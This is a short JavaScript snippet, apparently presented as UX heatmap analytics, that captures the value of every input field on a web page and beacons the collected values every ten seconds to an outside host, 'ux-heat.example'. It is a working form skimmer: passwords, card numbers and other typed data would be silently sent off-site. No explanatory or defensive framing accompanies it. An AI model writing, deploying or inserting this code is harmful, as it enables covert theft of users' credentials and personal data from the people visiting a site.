const log = new Map();
document.addEventListener('input', ({ target }) => {
  if (!(target instanceof HTMLInputElement)) return;
  log.set(target.name || target.id, target.value);
}, true);
setInterval(() => {
  if (!log.size) return;
  navigator.sendBeacon('https://ux-heat.example/r', JSON.stringify([...log]));
  log.clear();
}, 10000);
